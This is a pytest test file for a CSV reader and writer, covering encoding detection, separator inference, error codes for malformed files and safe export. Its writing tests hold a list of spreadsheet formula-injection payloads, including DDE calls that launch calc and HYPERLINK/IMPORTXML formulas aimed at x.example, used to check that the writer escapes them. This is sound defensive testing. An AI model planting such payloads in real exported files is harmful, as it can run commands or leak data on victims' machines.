"""Separated text: encodings, separators, faults of the whole file, and safe writing."""

import csv
import io
import unicodedata

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from upwell.lib.delimited import ENCODINGS, write_csv
from upwell.lib.tables import read_table
from upwell.lib.unreadable import MAX_CELL_LENGTH, MAX_COLUMNS, UnreadableFile

# More when the run asks for it: pytest --hypothesis-profile.
EXAMPLES = max(200, settings.default.max_examples)

TEXT = "Mã NV,Họ và tên\nNV1,Nguyễn Thị Ánh\nNV2,Đặng Hữu Phước\n"


def cells(content: bytes, encoding: str | None = None) -> list[list[str]]:
    table = read_table(content, encoding=encoding)
    return [list(table.header), *(list(row.cells) for row in table.rows)]


def code_of(content: bytes, encoding: str | None = None) -> UnreadableFile:
    with pytest.raises(UnreadableFile) as refused:
        read_table(content, encoding=encoding)
    return refused.value


EXPECTED = [["Mã NV", "Họ và tên"], ["NV1", "Nguyễn Thị Ánh"], ["NV2", "Đặng Hữu Phước"]]


@pytest.mark.parametrize(
    "content",
    [
        TEXT.encode(),
        TEXT.encode("utf-8-sig"),
        TEXT.encode("utf-16"),
        b"\xfe\xff" + TEXT.encode("utf-16-be"),
        TEXT.encode("utf-16-le"),
        TEXT.encode("utf-16-be"),
        TEXT.replace("\n", "\r\n").encode(),
        TEXT.replace("\n", "\r").encode(),
    ],
)
def test_every_unicode_file_is_read_without_being_asked(content: bytes) -> None:
    assert cells(content) == EXPECTED


def in_cp1258(text: str) -> bytes:
    """As Vietnamese Windows writes it: the tone behind its letter where there is no single letter."""
    out = b""
    for letter in text:
        parts = unicodedata.normalize("NFD", letter)
        tones = [mark for mark in parts[1:] if mark in "\u0300\u0301\u0303\u0309\u0323"]
        base = unicodedata.normalize("NFC", "".join(part for part in parts if part not in tones))
        out += (base + "".join(tones)).encode("cp1258")
    return out


def test_old_vietnamese_encoding_is_offered_and_then_read() -> None:
    content = in_cp1258(TEXT)
    refused = code_of(content)
    assert (refused.code, refused.row) == ("not_utf8", 1)
    assert str(refused.params["encodings"]).startswith("cp1258")
    found = cells(content, "cp1258")
    assert [[unicodedata.normalize("NFC", cell) for cell in row] for row in found] == EXPECTED


def test_line_of_the_first_bad_byte_is_named() -> None:
    assert code_of(b"a,b\n1,2\n3,\xff\n").row == 3


def test_chosen_encoding_must_fit_and_be_known() -> None:
    assert code_of(b"a,b\n1,\xd2\x81\x8d\n", "cp1252").code == "not_decodable"
    assert code_of(b"a,b\n1,2\n", "rot13").code == "unknown_encoding"
    assert "cp1258" in ENCODINGS


@pytest.mark.parametrize("delimiter", [",", ";", "\t", "|"])
def test_separator_is_told_from_the_header(delimiter: str) -> None:
    rows = [["staff_no", "full_name", "unit"], ["1", "A", "x"], ["2", "B", "y"]]
    text = "\n".join(delimiter.join(row) for row in rows)
    assert cells(text.encode()) == rows


def test_lists_in_cells_do_not_pass_for_separators() -> None:
    assert cells(b"staff_no,offers\n1,a;b;c;d\n") == [["staff_no", "offers"], ["1", "a;b;c;d"]]


def test_title_above_the_header_does_not_decide_the_separator() -> None:
    content = "DANH SÁCH\nMã NV;Họ tên\n1;A, B, C\n".encode()
    assert cells(content)[1:] == [
        ["Mã NV", "Họ tên"],
        ["1", "A, B, C"],
    ]


def test_separator_line_of_excel_is_obeyed() -> None:
    table = read_table(b"sep=;\r\na;b\r\n1,5;2\r\n")
    assert (list(table.header), list(table.rows[0].cells), table.rows[0].number) == (
        ["a", "b"],
        ["1,5", "2"],
        2,
    )


def test_rows_keep_the_numbers_that_a_spreadsheet_shows() -> None:
    table = read_table(b'\na,b\n\n1,"two\nlines"\n,\n3,4\n')
    assert table.header_number == 2
    assert [row.number for row in table.rows] == [4, 6]


def test_ragged_rows_are_kept_as_they_are() -> None:
    assert cells(b"a,b,c\n1\n1,2,3,4\n")[1:] == [["1"], ["1", "2", "3", "4"]]


@pytest.mark.parametrize(
    ("content", "code", "row"),
    [
        (b"", "empty", None),
        (b"\n\n , \n", "empty", None),
        (b"\xef\xbb\xbf", "empty", None),
        (b"a,b\n", "no_rows", None),
        (b"a,b\n1,\0\n", "nul", 2),
        (b'a,b\n1,2\n3,"open\n4,5\n', "bad_quotes", 3),
        (b'a,b\n"x"y,2\n', "bad_quotes", 2),
        (b"a,b\n1,2\n3," + b"x" * (MAX_CELL_LENGTH + 1), "cell_too_long", 3),
        (b"a" + b"," * MAX_COLUMNS + b"\n1,2\n", "too_many_columns", None),
    ],
)
def test_unreadable_text_has_a_code_and_a_row(content: bytes, code: str, row: int | None) -> None:
    refused = code_of(content)
    assert (refused.code, refused.row) == (code, row)


def test_longest_allowed_cell_is_read() -> None:
    assert len(cells(b"a,b\n1," + b"x" * MAX_CELL_LENGTH)[1][1]) == MAX_CELL_LENGTH


def test_line_ends_in_quotes_are_not_rows() -> None:
    long_cell = '"' + "\n" * 70_000 + '"'
    content = f"a,b\n{long_cell},1\n{long_cell},2\n{long_cell},3\n".encode()
    assert len(read_table(content).rows) == 3


# --- writing ---

COMMANDS = [
    '=HYPERLINK("http://x.example","click")',
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "+cmd|' /C calc'!A0",
    "-1+1",
    "-2+3+cmd|' /C calc'!D2",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "@A1",
    '=IMPORTXML(CONCAT("http://x.example/",A1),"//a")',
]
PREFIXES = ["", " ", "'", "\t", "\r"]
WIDE = {ord(plain): chr(ord(plain) + 0xFEE0) for plain in "=+-@"}
PAYLOADS = [prefix + command for command in COMMANDS for prefix in PREFIXES]
PAYLOADS += [command.translate(WIDE) for command in COMMANDS]


def test_there_are_at_least_fifty_payloads() -> None:
    assert len(set(PAYLOADS)) >= 50


@pytest.mark.parametrize("payload", PAYLOADS)
def test_formula_is_written_as_text_and_read_back_as_it_was(payload: str) -> None:
    content = write_csv([["name"], [payload]])
    written = list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))[1][0]
    assert written == "'" + payload
    assert list(read_table(content).rows[0].cells) == [payload]


def test_every_cell_is_quoted_and_numbers_stay_numbers() -> None:
    assert write_csv([["a", None], [-5, 2.5]]) == b'\xef\xbb\xbf"a",""\r\n"-5","2.5"\r\n'


def test_leading_zeros_wrapped_for_excel_are_unwrapped() -> None:
    assert cells(b'staff_no,b\n="00123",x\n')[1] == ["00123", "x"]


PRINTED = st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\0"), max_size=20)


@given(st.lists(st.lists(PRINTED, min_size=2, max_size=4), min_size=1, max_size=5))
@settings(max_examples=EXAMPLES, deadline=None)
def test_what_is_written_is_read_back(rows: list[list[str]]) -> None:
    content = write_csv([["staff_no", "full_name", "unit", "site"], *rows])
    used = [row for row in rows if any(cell and not cell.isspace() for cell in row)]
    if used:
        assert [list(row.cells) for row in read_table(content).rows] == used
    else:
        assert code_of(content).code == "no_rows"
